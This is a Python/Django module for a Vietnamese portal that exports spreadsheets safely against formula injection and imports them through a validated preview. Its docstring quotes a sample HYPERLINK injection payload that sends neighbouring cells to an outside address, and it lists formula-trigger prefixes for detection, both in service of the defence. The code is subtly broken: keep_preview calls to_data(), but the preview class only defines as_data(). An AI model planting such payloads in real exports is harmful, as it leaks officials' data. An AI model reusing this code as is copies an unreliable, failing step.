"""The one way the portal writes a spreadsheet: every export builds its workbook here, writes its cells through
``write_cell`` / ``append_row`` and answers through ``xlsx_response``.

Officials open these files in Excel or LibreOffice, and many cells hold text that anyone may have typed: a task
title, a violation's description, a citizen's answer to a survey. openpyxl stores a text starting with "=" as a
formula, so ``=HYPERLINK("http://…?d="&B2,"Xem chi tiết")`` typed into a title would come out as a live formula
that sends the neighbouring cells away when clicked (CSV/formula injection, OWASP). Here every text is stored as a
text cell, and a text that a spreadsheet would read as a formula (starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return) also gets Excel's "quote prefix": the reader sees exactly what was typed, the program does
not evaluate it on opening, and editing the cell (F2, Enter) keeps it text, as a typed leading apostrophe would.
The text itself is not changed, so an exported list imported back (tasks, households) reads the same values.
Numbers, dates and booleans stay what they are: a negative number is a number, not text.
"""

import datetime
import secrets
from collections.abc import Callable
from dataclasses import dataclass, field
from io import BytesIO

from django.http import HttpResponse
from django.utils import timezone
from django.utils.functional import Promise
from django.utils.http import content_disposition_header
from django.utils.translation import gettext as _

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What a spreadsheet program takes as the start of a formula (OWASP's list: = + - @, tab, carriage return).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(text):
    return isinstance(text, str) and text.startswith(FORMULA_PREFIXES)


def cell_value(value):
    """``value`` as openpyxl can store it: lazy translations as text, control characters that the file format
    cannot hold (openpyxl refuses them with an error) dropped, an aware date-time in the portal's time zone (Excel
    has none). Anything else is returned unchanged."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.make_naive(value)
    return value


def neutralise(cell):
    """Make ``cell`` inert: text is stored as text (never a formula, never an error code such as "#REF!"), and text
    a spreadsheet would evaluate gets the quote prefix. Returns the cell."""
    value = cell.value
    if isinstance(value, str):
        # openpyxl has already typed "=…" as a formula ("f") and "#N/A" as an error ("e"); the text is what was typed.
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
    return cell


def write_cell(sheet, row, column, value):
    """``sheet.cell(row, column, value)`` made safe."""
    cell = sheet.cell(row=row, column=column)
    cell.value = cell_value(value)
    return neutralise(cell)


def append_row(sheet, values):
    """``sheet.append(values)`` made safe, in a normal or a write-only workbook. A value may be an openpyxl cell
    made by the caller (a styled ``WriteOnlyCell``); it is made safe too. Returns the cells written."""
    from openpyxl.cell import Cell, WriteOnlyCell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    if isinstance(sheet, WriteOnlyWorksheet):
        cells = []
        for value in values:
            if isinstance(value, Cell):
                value.value = cell_value(value.value)
                cell = value
            else:
                cell = WriteOnlyCell(sheet, value=cell_value(value))
            cells.append(neutralise(cell))
        sheet.append(cells)
        return cells
    values = [cell_value(value.value if isinstance(value, Cell) else value) for value in values]
    sheet.append(values)
    row = sheet._current_row  # the row append() just wrote, empty rows included
    return [neutralise(sheet.cell(row=row, column=column)) for column in range(1, len(values) + 1)]


def new_workbook(write_only=False):
    from openpyxl import Workbook

    return Workbook(write_only=write_only)


def workbook_bytes(workbook):
    """The .xlsx file of ``workbook``. Every cell of a normal workbook goes through ``neutralise`` once more, so a
    cell written some other way (``sheet["A1"] = …``, a formula string) cannot leave the portal live. A write-only
    workbook holds no cells any more: its rows were made safe by ``append_row``."""
    if not workbook.write_only:
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        neutralise(cell)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(content, filename):
    """A download of ``content`` (the bytes of an .xlsx file) named ``filename``."""
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["X-Content-Type-Options"] = "nosniff"
    return response


# --- Reading: the one import engine ------------------------------------------------------------------------------
# An import declares its columns (header and the other names people give it, required or not, how a cell is read);
# ``read_sheet`` finds the header row among the first rows, reads every row into values or Vietnamese errors tied
# to their row number, and hands back a preview. Nothing is written until the preview has no error and the person
# confirms; the preview travels between the two steps as plain data (``as_data`` / ``SheetPreview.from_data``).

MAX_IMPORT_ROWS = 5000
HEADER_SCAN_ROWS = 10


class ImportRejected(Exception):
    """A checked import was not written (the data changed since the preview, a row is refused on saving); ``errors``
    says why, row by row. Every import that writes from a preview raises it."""

    def __init__(self, errors):
        super().__init__("; ".join(str(error) for error in errors))
        self.errors = errors


class SheetRejected(Exception):
    """The file as a whole cannot be read (not an .xlsx, no header, too many rows): one message for the person."""

    def __init__(self, message):
        super().__init__(str(message))
        self.message = str(message)


class CellError(ValueError):
    """Raised by a column's parser with the message to show beside the row."""


@dataclass(frozen=True)
class Column:
    key: str
    header: str  # as the template writes it (Vietnamese; may be marked with gettext_noop)
    aliases: tuple = ()  # other headers people write, with or without diacritics
    required: bool = False
    parse: Callable = None  # text -> value, raises CellError; plain text when None
    width: int = 14  # in an exported sheet
    editable: bool = False  # in an exported sheet meant to come back: a cell the person fills in

    def names(self):
        """Every header this column is recognised by: its own, as translated for an English export, the aliases."""
        return {header_key(name) for name in (self.header, _(self.header), *self.aliases)}


def header_key(text):
    """A header as compared: without diacritics, case, a note in brackets ("Số nhân khẩu (người)"), punctuation at
    the ends or repeated spaces."""
    import re

    from core.search import normalise

    return normalise(re.sub(r"\(.*?\)", "", str(text or ""))).strip(" :*.")


def cell_text(value):
    """A cell as the person typed it: numbers without ".0", dates as dd/mm/yyyy, spaces collapsed."""
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        value = int(value)
    if isinstance(value, datetime.datetime | datetime.date):
        return value.strftime("%d/%m/%Y")
    return " ".join(str(value).split())


@dataclass
class SheetRow:
    number: int  # as the spreadsheet program numbers it
    values: dict
    errors: list = field(default_factory=list)


@dataclass
class SheetPreview:
    rows: list
    problems: list = field(default_factory=list)  # errors about the sheet rather than one row

    @property
    def errors(self):
        """(row number, message) of every problem, sheet-wide ones first (row 0)."""
        found = [(0, message) for message in self.problems]
        found += [(row.number, message) for row in self.rows for message in row.errors]
        return found

    @property
    def is_valid(self):
        return bool(self.rows) and not self.errors

    def as_data(self):
        return {"rows": [{"number": r.number, "values": r.values, "errors": r.errors} for r in self.rows],
                "problems": list(self.problems)}

    @classmethod
    def from_data(cls, data):
        return cls(rows=[SheetRow(**row) for row in data["rows"]], problems=list(data.get("problems", [])))


def load_rows(file, max_rows=MAX_IMPORT_ROWS, sheet_names=(), cells=False, require_sheet=False):
    """The rows of the first sheet named in ``sheet_names`` that the workbook has (names compared without case or
    diacritics; else its first sheet, or SheetRejected with ``require_sheet``), as tuples of values (of cells with
    ``cells=True``, for a parser that reads a cell's number format); refuses what is not an .xlsx or is too long."""
    from openpyxl import load_workbook

    if isinstance(file, bytes | bytearray):
        file = BytesIO(file)
    if hasattr(file, "seek"):
        file.seek(0)
    try:
        workbook = load_workbook(file, read_only=True, data_only=True)
        present = {header_key(name): name for name in workbook.sheetnames}
        wanted = next((present[header_key(name)] for name in sheet_names if header_key(name) in present), None)
        if wanted is None and require_sheet:
            raise SheetRejected(_("Không tìm thấy trang “%(sheet)s” trong tệp.") % {"sheet": sheet_names[0]})
        sheet = workbook[wanted] if wanted else workbook.worksheets[0]
        # Some programs write a wrong sheet size; without this, rows past it would be skipped silently.
        sheet.reset_dimensions()
        rows = []
        for values in sheet.iter_rows(values_only=not cells):
            rows.append(values)
            if len(rows) > max_rows + HEADER_SCAN_ROWS:
                raise SheetRejected(_("Tệp có quá nhiều dòng: tối đa %(n)s dòng mỗi lần nhập. Hãy chia tệp ra.")
                                    % {"n": max_rows})
        return rows
    except SheetRejected:
        raise
    except Exception as exc:  # noqa: BLE001 - any unreadable file gets the same answer
        raise SheetRejected(_("Không đọc được tệp: đây không phải tệp Excel .xlsx hợp lệ. Hãy lưu tệp dạng "
                              "“Excel Workbook (.xlsx)”.")) from exc


def find_header(rows, columns):
    """(index of the header row, {key: column index}) of the row among the first ones naming the most columns."""
    best = (None, {})
    for index, values in enumerate(rows[:HEADER_SCAN_ROWS]):
        found = {}
        for position, value in enumerate(values):
            key = header_key(cell_text(getattr(value, "value", value)))
            for column in columns:
                if key and column.key not in found and key in column.names():
                    found[column.key] = position
        if len(found) > len(best[1]):
            best = (index, found)
    return best


def read_sheet(file, columns, max_rows=MAX_IMPORT_ROWS):
    """Read ``file`` with ``columns`` into a SheetPreview; raises SheetRejected for a file that cannot be read."""
    rows = load_rows(file, max_rows)
    header_index, positions = find_header(rows, columns)
    missing = [column.header for column in columns if column.required and column.key not in positions]
    if header_index is None or missing:
        raise SheetRejected(_("Không thấy dòng tiêu đề có đủ các cột: %(columns)s. Hãy dùng tệp mẫu.")
                            % {"columns": ", ".join(f"“{name}”" for name in missing or [c.header for c in columns])})
    read = []
    for offset, values in enumerate(rows[header_index + 1:], start=header_index + 2):
        texts = {column.key: cell_text(values[positions[column.key]])
                 if column.key in positions and positions[column.key] < len(values) else ""
                 for column in columns}
        if not any(texts.values()):
            continue
        row = SheetRow(number=offset, values={})
        for column in columns:
            text = texts[column.key]
            if not text:
                if column.required:
                    row.errors.append(_("Thiếu “%(column)s”.") % {"column": column.header})
                row.values[column.key] = None if column.parse else ""
                continue
            try:
                row.values[column.key] = column.parse(text) if column.parse else text
            except CellError as error:
                row.errors.append(f"{column.header}: {error}")
                row.values[column.key] = None
        read.append(row)
    preview = SheetPreview(rows=read)
    if not read:
        preview.problems.append(str(_("Tệp không có dòng dữ liệu nào dưới dòng tiêu đề.")))
    return preview


def keep_preview(request, key, preview):
    """Keep a checked import's preview in the session until the user confirms it; returns the token that the
    confirmation form sends back (a preview confirmed in another tab, or twice, is not written again)."""
    token = secrets.token_urlsafe(16)
    request.session[key] = {"token": token, "preview": preview.to_data()}
    return token


def take_preview(request, key, preview_class):
    """The preview kept under ``key`` when the posted token is its own, rebuilt by ``preview_class.from_data``;
    it leaves the session either way. None when there is none, the token differs or the stored data is damaged."""
    stored = request.session.pop(key, None)
    token = request.POST.get("token", "")
    if not (stored and token and secrets.compare_digest(str(stored.get("token", "")), token)):
        return None
    try:
        return preview_class.from_data(stored["preview"])
    except (KeyError, TypeError, ValueError):
        return None
